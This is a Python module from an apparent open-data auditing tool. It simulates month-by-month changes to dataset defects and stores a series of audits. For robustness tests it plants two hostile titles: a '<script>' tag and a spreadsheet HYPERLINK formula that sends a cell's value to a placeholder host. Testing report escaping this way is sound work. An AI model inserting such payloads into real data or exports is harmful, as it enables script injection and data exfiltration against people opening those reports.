"""The next month of a simulated territory, and a few months of audits stored in a row.

``next_month(world)`` returns a new :class:`World` about 30 days later, deterministic from
the world's seed and date:

* datasets that keep their rhythm are updated on time (their dates move forward so that
  they stay as fresh as the generator made them); the ones planted stale stay stale;
* some planted defects are fixed: a broken link is repaired, a missing licence is set, a
  stale dataset is updated again, a bound commune starts publishing its grant data;
* new defects appear: another file answers 404, a licence becomes a non-approved one, a
  dataset stops being updated;
* with ``hostile=True`` two titles carry what reports must never interpret: HTML markup
  (``<script>``) and a spreadsheet formula (``=HYPERLINK(...)``); titles are not part of any
  finding's identity, so this changes no finding.

What changed is listed in :class:`Evolution` (``fixed`` and ``planted``: (defect, dataset
key) pairs). The ground truth of each month stays :func:`~auditor.simulate.truth.expected_findings`
of that month's world, served on the same ports (finding fingerprints include file URLs).

``served_months(world, months)`` serves each month in turn (same ports every month);
``audit_months(world, months, data_dir)`` crawls, audits and stores each of them, which is what
tests, benchmarks and demonstrations of the history need (``auditor demo --months N`` goes
through :func:`served_months` to print each audit as the CLI does).
"""
from __future__ import annotations

import copy
import random
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path
from typing import Any, Iterator

from ..normalize.frequency import DELTAS
from .generator import FORMAT_MEDIA, SCHEMAS, TEMPLATES, _set_modified, _slug
from .world import SimDataset, SimFile, World

MONTH = 30
HOSTILE_HTML = "<script>window.__pwned=1</script>"
HOSTILE_FORMULA = '=HYPERLINK("http://exemple.invalid/?x="&A1;"cliquez")'


@dataclass
class Evolution:
    world: World
    fixed: list[tuple[str, str]] = field(default_factory=list)  # (defect, dataset key)
    planted: list[tuple[str, str]] = field(default_factory=list)
    refreshed: int = 0  # datasets updated on time


def next_month(world: World, *, days: int = MONTH, hostile: bool = False) -> Evolution:
    """The same territory ``days`` later (see the module documentation)."""
    new = copy.deepcopy(world)
    as_of = date.fromisoformat(world.as_of) + timedelta(days=days)
    new.as_of = as_of.isoformat()
    rng = random.Random(f"{world.seed}:evolve:{new.as_of}")
    ev = Evolution(new)
    live = [d for d in new.datasets if d.record and d.owner != "other" and new.portals[d.portal].broken is None]

    ev.refreshed = _keep_rhythm(new.datasets, as_of, rng)
    _fix(ev, live, as_of, rng)
    _plant(ev, live, as_of, rng)
    if hostile:
        _hostile_titles(ev)
    return ev


def _keep_rhythm(datasets: list[SimDataset], as_of: date, rng: random.Random) -> int:
    n = 0
    for d in datasets:
        delta = DELTAS.get(d.frequency) if d.frequency else None
        if delta is None or not d.modified or {"stale", "stale-obligation"} & set(d.defects):
            continue
        span = max(delta.days, 0)
        age = (as_of - date.fromisoformat(d.modified[:10])).days
        if age > 0.6 * span:
            _set_modified(d, as_of - timedelta(days=int(rng.uniform(0.05, 0.6) * span)))
            n += 1
    return n


def _pick(pool: list[SimDataset], rng: random.Random) -> SimDataset | None:
    pool = sorted(pool, key=lambda d: d.key)
    return rng.choice(pool) if pool else None


def _fix(ev: Evolution, live: list[SimDataset], as_of: date, rng: random.Random) -> None:
    d = _pick([d for d in live if "broken-link" in d.defects], rng)
    if d:
        for f in d.files:
            f.status = 200
        d.defects.remove("broken-link")
        ev.fixed.append(("broken-link", d.key))
    d = _pick([d for d in live if "licence-missing" in d.defects], rng)
    if d:
        d.licence = "lov2"
        d.defects.remove("licence-missing")
        ev.fixed.append(("licence-missing", d.key))
    d = _pick([d for d in live if "stale" in d.defects], rng)
    if d:
        _set_modified(d, as_of - timedelta(days=2))
        d.defects.remove("stale")
        ev.fixed.append(("stale", d.key))
    grants = _grant_publisher(ev.world, rng)
    if grants:
        ev.fixed.append(("grants-missing", grants.key))


def _grant_publisher(world: World, rng: random.Random) -> SimDataset | None:
    """A commune of 3 500 inhabitants or more, publishing on the MEL platform but not its
    grants, publishes them there (SCDL Subventions, on time)."""
    from ..crawling.territory.registry import load_registry

    registry = load_registry()
    on_mel: dict[str, list[SimDataset]] = {}
    for d in world.datasets:
        if d.portal == "mel" and d.owner in registry.communes and d.record:
            on_mel.setdefault(d.owner, []).append(d)
    candidates = sorted(code for code, ds in on_mel.items()
                        if (registry.communes[code].population or 0) >= 3500
                        and not any(x.kind == "subventions" for x in world.datasets if x.owner == code))
    if not candidates:
        return None
    code = rng.choice(candidates)
    name = registry.communes[code].name
    title, desc, kw, th, freq, fmts = TEMPLATES["subventions"]
    keys = {d.key for d in world.datasets}
    key, n = _slug(title.format(c=name))[:60], 2
    while key in keys:
        key, n = f"{_slug(title.format(c=name))[:56]}-{n}", n + 1
    modified = (date.fromisoformat(world.as_of) - timedelta(days=rng.randint(1, 20))).isoformat()
    model = on_mel[code][0]
    d = SimDataset(key=key, owner=code, portal="mel", source_id=key, kind="subventions", title=title.format(c=name),
                   description=desc.format(c=name), publisher=model.publisher, keywords=list(kw), themes=list(th),
                   licence="lov2", issued=modified, modified=modified,
                   metadata_modified=f"{modified}T10:00:00+00:00", frequency=freq,
                   temporal_start="2020-01-01", spatial=code, contact_name="Service open data",
                   contact_email=model.contact_email, schema=SCHEMAS["subventions"], rows=rng.randint(8, 40))
    d.files = [SimFile(id=f"{fmt}-{i + 1}", title=f"{key}.{fmt}", format=fmt, media_type=FORMAT_MEDIA[fmt],
                       content="table", modified=modified) for i, fmt in enumerate(fmts)]
    ws = _slug(name).replace("-", "_")
    d.collection = f"{ws}:{key.replace('-', '_')}"[:80]
    world.datasets.append(d)
    return d


def _plant(ev: Evolution, live: list[SimDataset], as_of: date, rng: random.Random) -> None:
    clean = [d for d in live if not d.defects]
    d = _pick(clean, rng)
    if d:
        rng.choice(sorted(d.files, key=lambda f: f.id)).status = 404
        d.defects.append("broken-link")
        ev.planted.append(("broken-link", d.key))
    d = _pick([x for x in clean if not x.defects and x.licence in ("lov2", "odbl")], rng)
    if d:
        d.licence = "cc-by-nc"
        d.defects.append("licence-not-approved")
        ev.planted.append(("licence-not-approved", d.key))
    d = _pick([x for x in clean if not x.defects and x.frequency and DELTAS.get(x.frequency)
               and DELTAS[x.frequency].days >= 28], rng)
    if d:
        _set_modified(d, as_of - 3 * DELTAS[d.frequency] - timedelta(days=10))
        d.defects.append("stale")
        ev.planted.append(("stale", d.key))


def _hostile_titles(ev: Evolution) -> None:
    """Put the hostile texts in the titles of datasets that have a finding (the ones given a
    new defect this month, else MEL datasets under the old Licence Ouverte 1.0), so that
    they reach every report and export."""
    planted = [k for defect, k in ev.planted if defect in ("broken-link", "licence-not-approved")]
    pool = [ev.world.dataset(k) for k in planted] or sorted(
        (d for d in ev.world.datasets if d.owner == "MEL" and d.kind == "misc" and d.record and d.licence == "lo1"),
        key=lambda d: d.key)
    for d, text in zip(pool[:2], (f"{{}} {HOSTILE_HTML}", f"{HOSTILE_FORMULA} {{}}")):
        d.title = text.format(d.title)
        ev.planted.append(("hostile-title", d.key))


# -- several months, audited and stored --------------------------------------------------------
@dataclass
class Month:
    world: World
    run_id: int
    urls: dict[str, str]
    evolution: Evolution | None = None


@dataclass
class Served:
    """One month being served: its index, the world as served, its territory (servers up) and
    how it came from the month before (None for the first)."""
    index: int
    world: World
    territory: Any  # SimTerritory
    evolution: Evolution | None


def served_months(world: World, months: int, *, hostile_in: int | None = None,
                  down: dict[int, list[str]] | None = None) -> Iterator[Served]:
    """Serve ``world`` and its ``months - 1`` next months in turn, each on the same ports; each
    month is served while the loop body runs. ``hostile_in`` and ``down``: see :func:`audit_months`."""
    from .server import SimTerritory

    ports: dict[str, int] | None = None
    evolution: Evolution | None = None
    for i in range(months):
        if i:
            evolution = next_month(world, hostile=hostile_in == i)
            world = evolution.world
        elif hostile_in == 0:
            world = copy.deepcopy(world)
            _hostile_titles(Evolution(world))
        served = world
        if down and down.get(i):
            served = copy.deepcopy(world)
            for name in down[i]:
                served.portals[name].broken = "down"
        with SimTerritory(served, ports=ports) as territory:
            ports = {name: int(url.rsplit(":", 1)[1].split("/")[0]) for name, url in territory.urls.items()
                     if url.startswith("http://")}
            yield Served(i, served, territory, evolution)


def audit_months(world: World, months: int, data_dir: Path, *, hostile_in: int | None = None,
                 http: dict[str, Any] | None = None, rules=None, down: dict[int, list[str]] | None = None) -> list[Month]:
    """Audit ``world`` and its ``months - 1`` next months, each served on the same ports, each
    stored as one audit run (``data_dir/auditor.sqlite``). ``hostile_in`` (a month index)
    plants the hostile titles in that month; ``down`` maps a month index to the portals that
    answer 503 to everything that month only (``Month.world`` is then the world as served)."""
    from ..auditing.audit import audit_and_store, parse_as_of
    from ..config import load_config
    from ..auditing.rules import load_rules
    from ..history.store import Store
    from .demo import write_config

    rules = rules if rules is not None else load_rules()
    http = http or {"timeout": 2.0, "retries": 6, "backoff": 0.01, "backoff_max": 0.05,
                    "max_retry_wait": 5.0, "per_host": 6}
    out: list[Month] = []
    for month in served_months(world, months, hostile_in=hostile_in, down=down):
        path = write_config(month.territory, Path(data_dir) / "conf", http=http, crawl={"probe_max_age": 0})
        config = load_config(path, data_dir=data_dir)
        with Store(config.store_path) as store:
            run_id, _, _ = audit_and_store(config, store, rules, as_of=parse_as_of(month.world.as_of))
        out.append(Month(month.world, run_id, dict(month.territory.urls), month.evolution))
    return out
